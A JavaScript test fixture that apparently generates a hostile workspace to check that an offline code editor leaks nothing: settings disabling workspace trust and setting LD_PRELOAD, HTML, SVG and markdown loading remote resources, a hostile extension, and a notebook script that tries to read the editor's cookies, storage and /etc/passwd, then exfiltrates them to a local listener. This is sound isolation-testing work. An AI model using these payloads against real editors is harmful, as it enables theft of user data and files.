/**
 * A stranger's folder that tries to get something out: settings that turn the network on, pictures
 * and schemas from elsewhere, a notebook whose scripts look for what they can read. Everything
 * leads to a listener on this machine, which records what got through, or to names that don't
 * exist.
 */
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";

import { png } from "./png.mjs";
import { setTraps } from "./traps.mjs";

/** A host name that no machine has, for when our own listener can't be used. */
const NOWHERE = "leak.localcoder-test.invalid";

/** Colors by which a test that can only look at the screen sees that a page is shown. */
export const SEEN = { preview: [254, 1, 127], notebook: [1, 254, 127] };

/** A picture of one pixel, as a data address. */
function pointOf(color) {
  return `data:image/png;base64,${png(1, 1, () => color).toString("base64")}`;
}

/** Everything that a page can load, or prepare to load, by markup alone. */
function markup(elsewhere) {
  const nowhere = `https://${NOWHERE}`;
  return [
    `<img src="${elsewhere}/html.png"><img srcset="${elsewhere}/set.png 2x, ${nowhere}/set.png 3x">`,
    `<picture><source srcset="${elsewhere}/source.png"><img src="${elsewhere}/picture.png"></picture>`,
    `<p style="background-image: url(${elsewhere}/style.png)">styled</p>`,
    `<style>@import "${elsewhere}/import.css"; @font-face { font-family: leak; src: url(${elsewhere}/font.woff2); }
      body { font-family: leak; cursor: url(${elsewhere}/cursor.png), auto; }</style>`,
    `<link rel="stylesheet" href="${elsewhere}/link.css"><link rel="icon" href="${elsewhere}/icon.png">`,
    `<link rel="dns-prefetch" href="//${NOWHERE}"><link rel="preconnect" href="${elsewhere}">`,
    `<link rel="preconnect" href="${nowhere}"><link rel="prefetch" href="${elsewhere}/prefetch.html">`,
    `<link rel="preload" as="image" href="${elsewhere}/preload.png"><link rel="modulepreload" href="${elsewhere}/preload.js">`,
    `<link rel="prerender" href="${elsewhere}/prerender.html"><link rel="manifest" href="${elsewhere}/manifest.json">`,
    `<script type="speculationrules">{"prefetch":[{"urls":["${elsewhere}/rules.html"]}]}</script>`,
    `<video src="${elsewhere}/video.mp4" poster="${elsewhere}/poster.png" autoplay></video>`,
    `<audio src="${elsewhere}/audio.ogg" autoplay></audio><video><track src="${elsewhere}/track.vtt" default></video>`,
    `<iframe src="${elsewhere}/frame.html"></iframe><iframe srcdoc="<img src='${elsewhere}/srcdoc.png'>"></iframe>`,
    `<object data="${elsewhere}/object.svg"></object><embed src="${elsewhere}/embed.svg">`,
    `<svg width="9" height="9"><image href="${elsewhere}/svg.png" width="9" height="9"/><use href="${elsewhere}/use.svg#x"/>
      <script>fetch("${elsewhere}/svg-script")</script></svg>`,
    `<img src="data:image/png,none" onerror="fetch('${elsewhere}/onerror'); new Image().src='${elsewhere}/onerror.png'">`,
    `<script>new Image().src = "${elsewhere}/script.png"</script><script src="${elsewhere}/script.js"></script>`,
    `<form action="${elsewhere}/form"><input type="image" src="${elsewhere}/input.png"></form>`,
    `<base href="${elsewhere}/base/">`,
    `<a href="${elsewhere}/ping" ping="${elsewhere}/pinged">a link</a>`,
    `<math><mi xlink:href="${elsewhere}/math">x</mi></math><table background="${elsewhere}/table.png"></table>`,
  ];
}

/** A picture that would load others and run a script. */
function svg(elsewhere) {
  return `<?xml version="1.0"?><?xml-stylesheet href="${elsewhere}/svg.css" type="text/css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="80"
  onload="new Image().src='${elsewhere}/svg-onload.png'">
<style>@import url("${elsewhere}/svg-import.css"); rect { fill: url(${elsewhere}/svg-fill.svg#a); }</style>
<rect width="80" height="80"/><image xlink:href="${elsewhere}/svg-image.png" width="80" height="80"/>
<image href="https://${NOWHERE}/svg.png" width="8" height="8"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${elsewhere}/svg-frame.html"/></foreignObject>
<script>fetch("${elsewhere}/svg-script")</script></svg>`;
}

/**
 * Writes the folder; `port` is the listener's, `marks` the folder in which programs that the folder
 * starts leave their marks.
 */
export function makeHostile(folder, port, marks) {
  const elsewhere = `http://127.0.0.1:${port}`;
  mkdirSync(join(folder, ".vscode"), { recursive: true });
  const write = (name, text) => {
    writeFileSync(
      join(folder, name),
      typeof text === "string" ? text : JSON.stringify(text, null, 2),
    );
  };
  const traps = marks === undefined ? {} : setTraps(folder, marks);
  write(".vscode/settings.json", {
    ...traps,
    "security.workspace.trust.enabled": false,
    "security.workspace.trust.startupPrompt": "always",
    "security.workspace.trust.untrustedFiles": "open",
    "workbench.startupEditor": "readme",
    "workbench.colorTheme": `${elsewhere}/theme.json`,
    "workbench.iconTheme": `${elsewhere}/icons.json`,
    "editor.fontFamily": `url(${elsewhere}/font.woff2)`,
    "extensions.ignoreRecommendations": false,
    "extensions.gallery.serviceUrl": elsewhere,
    "terminal.integrated.env.linux": { LD_PRELOAD: "/nowhere/evil.so" },
    "yaml.schemas": { [`${elsewhere}/yaml-schema.json`]: "*.yaml" },
    "markdown.preview.scripts": [`${elsewhere}/preview.js`],
    "chat.mcp.access": "all",
    "workbench.editorAssociations": { "*.md": "vscode.markdown.preview.editor" },
    "npm.fetchOnlinePackageInfo": true,
    "json.schemaDownload.enable": true,
    "json.schemaDownload.trustedDomains": { [`${elsewhere}/`]: true, "http://": true },
    "json.schemas": [{ fileMatch: ["*.json"], url: `${elsewhere}/folder-schema.json` }],
    "markdown.styles": [`${elsewhere}/style.css`],
    "css.customData": [`${elsewhere}/data.json`],
    "html.customData": [`${elsewhere}/data.json`],
    "git.autofetch": true,
    "git.autofetchPeriod": 1,
    "http.proxy": elsewhere,
    "extensions.autoCheckUpdates": true,
    "typescript.disableAutomaticTypeAcquisition": false,
    "js/ts.tsserver.automaticTypeAcquisition.enabled": true,
    "telemetry.telemetryLevel": "all",
    "localcoder.airGapped": false,
  });
  write("package.json", {
    $schema: `${elsewhere}/package-schema.json`,
    name: "hostile",
    dependencies: { "left-pad": "1.0.0" },
  });
  write("data.json", { $schema: `${elsewhere}/schema.json`, value: 1 });
  write("page.html", `<link rel="stylesheet" href="${elsewhere}/a.css">\n`);
  write("picture.svg", svg(elsewhere));
  write("data.yaml", `# yaml-language-server: $schema=${elsewhere}/yaml.json\nvalue: 1\n`);
  write("all.code-workspace", { folders: [{ path: "." }], settings: { "http.proxy": elsewhere } });
  const page = [
    `![a plain one](${elsewhere}/markdown.png) ![nowhere](https://${NOWHERE}/markdown.png)`,
    `[![a linked one](${elsewhere}/linked.png)](command:workbench.action.terminal.new) ![][ref]`,
    ...markup(elsewhere),
    `$$\\includegraphics{${elsewhere}/math.png}$$`,
    `\`\`\`mermaid\ngraph LR; a-->b; click a "${elsewhere}/mermaid"\n\`\`\``,
    `[ref]: ${elsewhere}/reference.png`,
    "",
  ].join("\n\n");
  write(
    "PICTURES.md",
    `# Pictures\n\n<img src="${pointOf(SEEN.preview)}" width="200" height="100">\n\n${page}`,
  );
  write("README.md", `# Read me\n\n${page}`);
  // A file of its own, because the browser replaces a page that navigates where it may not.
  write("AWAY.md", `# Away\n\n<meta http-equiv="refresh" content="0;url=${elsewhere}/refresh">\n`);
  write("leak.ipynb", notebook(elsewhere));
}

/** Kinds of outputs that a renderer shows, besides HTML. */
const OUTPUTS = ["image/svg+xml", "application/javascript", "text/markdown", "text/latex"];

function contentOf(type, elsewhere) {
  if (type === "image/svg+xml") {
    return svg(elsewhere).slice(svg(elsewhere).indexOf("<svg"));
  }
  if (type === "application/javascript") {
    return `fetch("${elsewhere}/output.js"); import("${elsewhere}/module.js");`;
  }
  return `![remote](${elsewhere}/output.png)\n\n${markup(elsewhere).join("\n\n")}`;
}

/** A notebook with an output that runs scripts when it is shown. */
function notebook(elsewhere) {
  const output = `${markup(elsewhere)
    .filter((it) => !/<script/u.test(it))
    .join("\n")}
    <p id="tried">not yet</p>
    <script>(${attack})(${[elsewhere, NOWHERE, SEEN.notebook].map((it) => JSON.stringify(it))});</script>`;
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { language_info: { name: "python" } },
    cells: [
      {
        cell_type: "code",
        id: "leak",
        execution_count: 1,
        metadata: {},
        source: ["1"],
        outputs: [
          {
            output_type: "display_data",
            metadata: {},
            data: { "text/html": [output], "text/plain": ["shown"] },
          },
        ],
      },
      {
        cell_type: "markdown",
        id: "words",
        metadata: {},
        source: [`# Cell\n\n![remote](${elsewhere}/cell.png)\n\n${markup(elsewhere).join("\n\n")}`],
      },
      ...OUTPUTS.map((type) => ({
        cell_type: "code",
        id: type.replaceAll(/\W/gu, "-"),
        execution_count: 1,
        metadata: {},
        source: [type],
        outputs: [
          {
            output_type: "display_data",
            metadata: {},
            data: { [type]: [contentOf(type, elsewhere)] },
          },
        ],
      })),
    ],
  };
}

/** Runs in the notebook's page: tries everything, and writes down the results. */
async function attack(elsewhere, nowhere, color) {
  const tried = {};
  const attempt = async (name, body) => {
    try {
      tried[name] = String((await body()) ?? "nothing");
    } catch (error) {
      tried[name] = `refused: ${error.name}`;
    }
  };
  await attempt("the editor's cookie", () => window.top?.document.cookie);
  await attempt("the editor's address", () => window.top?.location.href);
  await attempt("the editor's storage", () => JSON.stringify(window.top?.localStorage));
  // It may have these of its own origin; nothing of the editor's is in them.
  await attempt("own cookie", () => document.cookie);
  const editor = window.location.ancestorOrigins?.[window.location.ancestorOrigins.length - 1];
  const file = "/vscode-remote-resource?path=/etc/passwd";
  for (const base of [editor, location.origin]) {
    const options = /** @type {const} */ ({ credentials: "include" });
    await attempt(`file of ${base}`, async () => (await fetch(base + file, options)).text());
  }
  const leak = encodeURIComponent(JSON.stringify(tried));
  await attempt("picture", () => {
    return new Promise((resolve, reject) => {
      const picture = new Image();
      picture.onload = resolve;
      picture.onerror = () => reject(new Error("blocked"));
      picture.src = `${elsewhere}/picture?${leak}`;
    });
  });
  await attempt("fetch", () => fetch(`${elsewhere}/fetch?${leak}`, { mode: "no-cors" }));
  await attempt("beacon", () => navigator.sendBeacon(`${elsewhere}/beacon?${leak}`));
  await attempt("socket", () => {
    return new Promise((resolve, reject) => {
      const socket = new WebSocket(`${elsewhere.replace("http", "ws")}/socket?${leak}`);
      socket.onopen = resolve;
      socket.onerror = () => reject(new Error("blocked"));
    });
  });
  await attempt("peer", () => {
    const stun = elsewhere.replace("http://", "stun:");
    const peer = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
    peer.createDataChannel("leak");
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  });
  const hint = (address) => {
    for (const rel of ["dns-prefetch", "preconnect", "prefetch", "prerender"]) {
      const link = document.createElement("link");
      Object.assign(link, { rel, href: address });
      document.head.append(link);
    }
  };
  await attempt("hints", () => hint(`${elsewhere}/hint?${leak}`));
  // WebKit checks for a proxy every few seconds, and takes its time for the answer.
  for (let time = 0; time < 4; time += 1) {
    await attempt("hints of names", () => hint(`https://hint-${time}.${nowhere}/`));
    await new Promise((resolve) => setTimeout(resolve, 2000));
  }
  await attempt("script", () => import(`${elsewhere}/script.js?${leak}`));
  await attempt("window", () => window.open(`${elsewhere}/window?${leak}`));
  await attempt("top", () => {
    /** @type {Window} */ (window.top).location.href = `${elsewhere}/top?${leak}`;
  });
  const shown = /** @type {HTMLElement} */ (document.getElementById("tried"));
  shown.textContent = JSON.stringify(tried);
  // For tests that can only look at the screen.
  shown.style.cssText = `background: rgb(${color}); height: 300px; overflow: hidden`;
}

/**
 * The last thing that the notebook's page does, because it is gone afterwards: navigate elsewhere
 * with what it knows.
 */
export function goElsewhere(port) {
  const form = document.createElement("form");
  form.action = `http://127.0.0.1:${port}/form`;
  document.body.append(form);
  form.submit();
  window.location.href = `http://127.0.0.1:${port}/itself`;
}

/**
 * An extension of the user's whose pages are hostile: one of its own, and the description of
 * itself.
 */
export function hostileExtension(port) {
  const elsewhere = `http://127.0.0.1:${port}`;
  const page = `<!DOCTYPE html><html><body><h1>Page without a policy</h1>${markup(elsewhere).join("\n")}</body></html>`;
  const manifest = {
    name: "hostile",
    displayName: "Hostile",
    publisher: "test",
    version: "1.0.0",
    description: `![remote](${elsewhere}/description.png)`,
    icon: `${elsewhere}/icon.png`,
    homepage: elsewhere,
    repository: { type: "git", url: `${elsewhere}/repository` },
    badges: [{ url: `${elsewhere}/badge.svg`, href: elsewhere, description: "badge" }],
    engines: { vscode: "^1.80.0" },
    main: "./extension.js",
    capabilities: { untrustedWorkspaces: { supported: true } },
    contributes: {
      commands: [
        { command: "hostile.page", title: "Hostile: Show Page" },
        { command: "hostile.extension", title: "Hostile: Show Extension" },
      ],
    },
  };
  const code = `
    const { commands, window, ViewColumn } = require("vscode");
    exports.activate = (context) => {
      context.subscriptions.push(
        commands.registerCommand("hostile.page", () => {
          const options = { enableScripts: true };
          const panel = window.createWebviewPanel("hostile", "Hostile", ViewColumn.One, options);
          panel.webview.html = ${JSON.stringify(page)};
        }),
        commands.registerCommand("hostile.extension", () =>
          commands.executeCommand("extension.open", "test.hostile"),
        ),
      );
    };`;
  return {
    "test.hostile-1.0.0/package.json": JSON.stringify(manifest),
    "test.hostile-1.0.0/extension.js": code,
    "test.hostile-1.0.0/README.md": `# Read me of an extension\n\n![remote](${elsewhere}/extension.png)\n\n${markup(elsewhere).join("\n\n")}`,
    "test.hostile-1.0.0/CHANGELOG.md": `![remote](${elsewhere}/changelog.png)\n`,
  };
}
